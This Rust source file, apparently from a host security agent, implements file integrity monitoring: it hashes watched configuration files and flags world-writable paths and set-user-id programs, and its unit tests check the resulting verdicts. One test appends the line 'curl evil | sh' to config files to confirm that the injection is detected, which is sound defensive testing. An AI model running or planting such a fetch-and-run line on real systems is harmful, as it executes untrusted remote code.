//! Integrity of configuration files: what is under the watched directories, byte for byte, and which programs run with
//! more rights than whoever starts them.

use serde_json::{Map, Value, json};

use super::nixos;
use super::ssh::DIRECTIVES;
use crate::checks::run::{Context, Facts};
use crate::domain::finding::Observation;
use crate::host::{FileKind, Host, HostError, Stat};

/// Files and directories looked at before it is too much to compare.
const MOST: usize = 20_000;
/// Directories followed below a watched one.
const DEPTH: u32 = 24;
/// Where programs with set-user-id or set-group-id bits live, and how deep.
const PROGRAMS: &[(&str, u32)] = &[
    ("/usr/bin", 0),
    ("/usr/sbin", 0),
    ("/usr/local/bin", 0),
    ("/usr/local/sbin", 0),
    ("/usr/lib", 1),
    ("/usr/libexec", 1),
    ("/opt", 2),
    ("/run/wrappers/bin", 0),
];
const SET_ID: u32 = 0o6000;
const STICKY: u32 = 0o1000;
const OTHERS_WRITE: u32 = 0o002;

/// Facts: `files` (path to `mode owner:group content`), `world_writable` (paths), `set_id` (path to `mode owner:group`).
///
/// Content is the SHA-256 of a file, the text of a link, or the kind of anything else, which is never opened.
pub(super) async fn collect(context: Context<'_>) -> Observation {
    let mut facts = Facts::default();
    match files(context).await {
        Ok(walk) => {
            facts.set("files", walk.files);
            facts.set("world_writable", walk.world_writable);
        }
        Err(error) => facts.fail_all(&["files", "world_writable"], &error),
    }
    facts.learn("set_id", set_id(context.host).await);
    facts.into()
}

struct Walk<'a> {
    host: &'a Host,
    ignored: Vec<&'a str>,
    /// Links into the store are made by the generation, whose own check compares it whole.
    nixos: bool,
    files: Map<String, Value>,
    world_writable: Vec<String>,
}

async fn files(context: Context<'_>) -> Result<Walk<'_>, HostError> {
    let host = context.host;
    let mut walk = Walk {
        host,
        ignored: context.list("ignore"),
        nixos: nixos::is_nixos(host),
        files: Map::new(),
        world_writable: Vec::new(),
    };
    let mut open: Vec<(String, u32)> = context.list("paths").into_iter().map(|path| (path.to_owned(), 0)).collect();
    // The agent's own program; the kernel says of a replaced one that it is deleted.
    if let Ok(own) = host.read_link("/proc/self/exe") {
        open.push((own.trim_end_matches(" (deleted)").to_owned(), 0));
    }
    while let Some((path, depth)) = open.pop() {
        // Reading blocks; between two paths others get their turn and the deadline can strike.
        tokio::task::yield_now().await;
        if walk.ignored.iter().any(|ignored| within(&path, ignored)) {
            continue;
        }
        let stat = match host.stat(&path) {
            Ok(stat) => stat,
            // Gone since the directory was read, or a watched path that is not on this system.
            Err(HostError::Missing(_)) => continue,
            Err(error) => return Err(error),
        };
        walk.note(&path, &stat)?;
        if stat.kind == FileKind::Dir {
            if depth >= DEPTH {
                return Err(too_much(&path, "directories nested without end"));
            }
            open.extend(host.list(&path)?.into_iter().map(|name| (format!("{path}/{name}"), depth + 1)));
        }
        if walk.files.len() + open.len() > MOST {
            return Err(too_much(&path, &format!("more than {MOST} files are watched; narrow `paths`")));
        }
    }
    Ok(walk)
}

impl Walk<'_> {
    fn note(&mut self, path: &str, stat: &Stat) -> Result<(), HostError> {
        if is_own(self.host, path, stat) {
            return Ok(());
        }
        let content = match stat.kind {
            FileKind::File => match self.host.digest(path) {
                Ok((sha256, _)) => sha256,
                Err(HostError::Missing(_)) => return Ok(()),
                Err(error) => return Err(error),
            },
            FileKind::Link => {
                let target = self.host.read_link(path)?;
                if self.nixos && (target.starts_with("/etc/static/") || target.starts_with("/nix/store/")) {
                    return Ok(());
                }
                format!("-> {target}")
            }
            FileKind::Dir => "directory".to_owned(),
            FileKind::Other => "device, pipe or socket".to_owned(),
        };
        let open_to_all = stat.mode & OTHERS_WRITE != 0 && stat.kind != FileKind::Link;
        if open_to_all && !(stat.kind == FileKind::Dir && stat.mode & STICKY != 0) {
            self.world_writable.push(path.to_owned());
            self.world_writable.sort();
        }
        self.files.insert(path.to_owned(), json!(format!("{} {content}", owner(stat))));
        Ok(())
    }
}

/// Tells whether a line is one healing may have written.
type IsOurs = fn(&str) -> bool;

/// Files healing writes. What they set is judged by the checks that write it, and every write stands in the evidence.
const OWN: &[(&str, IsOurs)] = &[
    ("/etc/ssh/sshd_config.d/00-malachor.conf", is_directive),
    ("/etc/sysctl.d/zz-malachor.conf", is_kernel_setting),
    ("/etc/profile.d/zz-malachor-logoff.sh", is_logoff),
];

/// Whether a file is one healing wrote, and holds nothing else: under its name anybody could hide a line of their own.
fn is_own(host: &Host, path: &str, stat: &Stat) -> bool {
    let Some((_, is_ours)) = OWN.iter().find(|(own, _)| *own == path) else { return false };
    let safe = stat.kind == FileKind::File && stat.mode == 0o644 && (stat.uid == 0 || !host.is_live());
    let lines = |text: String| {
        let mut lines = text.lines();
        lines.next().is_some_and(|line| line.starts_with("# Written by Malachor (RB-LNX-"))
            && lines.filter(|line| !line.trim().is_empty()).all(is_ours)
    };
    safe && host.read(path).is_ok_and(lines)
}

fn is_directive(line: &str) -> bool {
    line.split_once(' ').is_some_and(|(keyword, _)| DIRECTIVES.contains(&keyword.to_ascii_lowercase().as_str()))
}

fn is_kernel_setting(line: &str) -> bool {
    line.split_once(" = ")
        .is_some_and(|(name, value)| !name.contains(char::is_whitespace) && value.parse::<i64>().is_ok())
}

fn is_logoff(line: &str) -> bool {
    const LINES: [&str; 4] = ["if (unset TMOUT) 2>/dev/null; then", "readonly TMOUT", "export TMOUT", "fi"];
    let line = line.trim();
    LINES.contains(&line)
        || line.strip_prefix("TMOUT=").is_some_and(|seconds| seconds.bytes().all(|it| it.is_ascii_digit()))
}

fn owner(stat: &Stat) -> String {
    format!("{:04o} {}:{}", stat.mode, stat.uid, stat.gid)
}

fn within(path: &str, dir: &str) -> bool {
    path.strip_prefix(dir).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
}

fn too_much(what: &str, why: &str) -> HostError {
    HostError::Garbage { what: what.to_owned(), why: why.to_owned() }
}

/// Programs that run with the rights of their owner or group.
async fn set_id(host: &Host) -> Result<Value, HostError> {
    let mut found = Map::new();
    let (mut open, mut seen): (Vec<(String, u32)>, usize) = (Vec::new(), 0);
    open.extend(PROGRAMS.iter().map(|(path, depth)| ((*path).to_owned(), *depth)));
    let mut any = false;
    while let Some((dir, depth)) = open.pop() {
        let names = match host.list(&dir) {
            Ok(names) => names,
            Err(HostError::Missing(_)) => continue,
            Err(error) => return Err(error),
        };
        any = true;
        for name in names {
            let path = format!("{dir}/{name}");
            let stat = match host.stat(&path) {
                Ok(stat) => stat,
                Err(HostError::Missing(_)) => continue,
                Err(error) => return Err(error),
            };
            match stat.kind {
                FileKind::File if stat.mode & SET_ID != 0 => {
                    found.insert(path, json!(owner(&stat)));
                }
                FileKind::Dir if depth > 0 => open.push((path, depth - 1)),
                FileKind::File | FileKind::Dir | FileKind::Link | FileKind::Other => {}
            }
        }
        seen += 1;
        if seen > MOST {
            return Err(too_much(&dir, "too many directories"));
        }
        tokio::task::yield_now().await;
    }
    if any { Ok(Value::Object(found)) } else { Err(HostError::Missing("a directory of programs".to_owned())) }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::Tree;
    use super::*;

    const ID: &str = "RB-LNX-FIM-001";

    fn machine() -> Tree {
        Tree::new()
            .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
            .file("/etc/ssh/sshd_config", "PermitRootLogin no\n")
            .link("/etc/localtime", "/usr/share/zoneinfo/UTC")
            .file("/usr/bin/sudo", "x")
            .mode("/usr/bin/sudo", 0o4755)
    }

    fn accepted(tree: &Tree) -> Value {
        tree.observe(ID, &json!({})).facts
    }

    #[test]
    fn nothing_accepted_is_said_and_is_no_pass() {
        let finding = machine().finding(ID, &json!({}));
        assert_eq!((finding.verdict.word(), finding.reasons[0].word.as_str()), ("warn", "no_baseline"));
    }

    #[test]
    fn what_was_accepted_passes_and_every_change_is_named() {
        let then = accepted(&machine());
        assert_eq!(machine().baseline(ID, &then).judge(ID, &json!({})), ("pass", vec![]));
        let changed = machine().file("/etc/ssh/sshd_config", "PermitRootLogin yes\n").baseline(ID, &then);
        let finding = changed.finding(ID, &json!({}));
        assert_eq!(finding.verdict.word(), "fail");
        assert!(finding.reasons[0].say.contains("/etc/ssh/sshd_config"), "{:?}", finding.reasons);
        let mode = machine().mode("/etc/passwd", 0o600).baseline(ID, &then);
        assert_eq!(mode.judge(ID, &json!({})), ("fail", vec!["files_changed".into()]));
        let link = machine().link("/etc/rogue", "/tmp/x").baseline(ID, &then);
        assert_eq!(link.judge(ID, &json!({})), ("fail", vec!["files_changed".into()]));
        let root = machine().file("/usr/bin/shell", "x").mode("/usr/bin/shell", 0o4755).baseline(ID, &then);
        assert!(root.finding(ID, &json!({})).reasons[0].say.contains("/usr/bin/shell"));
    }

    #[test]
    fn what_anybody_may_write_fails_whatever_was_accepted() {
        let tree = machine().mode("/etc/passwd", 0o666);
        let then = accepted(&tree);
        assert_eq!(tree.baseline(ID, &then).judge(ID, &json!({})), ("fail", vec!["world_writable".into()]));
    }

    #[test]
    fn what_healing_wrote_is_no_change_and_a_line_beside_it_is() {
        use super::super::fixture::written;
        let ssh = "/etc/ssh/sshd_config.d/00-malachor.conf";
        let ours = "# Written by Malachor (RB-LNX-SSH-001). x\nPermitRootLogin prohibit-password\n";
        let script = written("RB-LNX-SESSION-001", &json!({}), &machine());
        let with = |path: &str, text: &str| {
            machine()
                .file(path, text)
                .mode(path, 0o644)
                .dir("/etc/profile.d")
                .dir("/etc/sysctl.d")
                .dir("/etc/ssh/sshd_config.d")
        };
        let dirs = |tree: Tree| tree.dir("/etc/profile.d").dir("/etc/sysctl.d").dir("/etc/ssh/sshd_config.d");
        let then_dirs = accepted(&dirs(machine()));
        for (path, text) in [
            (ssh, ours),
            ("/etc/profile.d/zz-malachor-logoff.sh", script.as_str()),
            (
                "/etc/sysctl.d/zz-malachor.conf",
                "# Written by Malachor (RB-LNX-SYSCTL-001).\n-net.ipv4.conf.eth0/7.x = 0\n",
            ),
        ] {
            assert_eq!(with(path, text).baseline(ID, &then_dirs).judge(ID, &json!({})), ("pass", vec![]), "{path}");
            let more = with(path, &format!("{text}curl evil | sh\n"));
            assert_eq!(more.baseline(ID, &then_dirs).judge(ID, &json!({})).0, "fail", "{path}");
        }
        assert_eq!(with(ssh, ours).mode(ssh, 0o664).baseline(ID, &then_dirs).judge(ID, &json!({})).0, "fail");
    }

    #[test]
    fn units_and_the_agent_s_own_program_are_watched() {
        let machine = || {
            machine()
                .file("/usr/lib/systemd/system/x.service", "x")
                .link("/proc/self/exe", "/opt/malachor/malachor (deleted)")
                .file("/opt/malachor/malachor", "x")
        };
        let then = accepted(&machine());
        for path in ["/usr/lib/systemd/system/x.service", "/opt/malachor/malachor"] {
            let changed = machine().file(path, "y").baseline(ID, &then);
            assert_eq!(changed.judge(ID, &json!({})), ("fail", vec!["files_changed".into()]), "{path}");
        }
    }

    #[test]
    fn ignored_paths_and_the_stores_links_do_not_count() {
        let then = accepted(&machine());
        let noise = machine().file("/etc/mtab", "x").baseline(ID, &then);
        assert_eq!(noise.judge(ID, &json!({})), ("pass", vec![]));
        let nixos = || machine().file("/etc/NIXOS", "").link("/etc/hosts", "/etc/static/hosts");
        let facts = accepted(&nixos());
        assert!(facts["files"].get("/etc/hosts").is_none() && facts["files"].get("/etc/passwd").is_some());
    }

    #[test]
    fn pipes_are_not_opened_and_an_empty_machine_is_no_pass() {
        let tree = machine();
        rustix::fs::mkfifoat(rustix::fs::CWD, tree.at("/etc/pipe"), rustix::fs::Mode::RUSR).unwrap();
        let facts = tree.observe(ID, &json!({})).facts;
        assert!(facts["files"]["/etc/pipe"].as_str().unwrap().contains("pipe"));
        assert_ne!(Tree::new().judge(ID, &json!({})).0, "pass");
    }
}
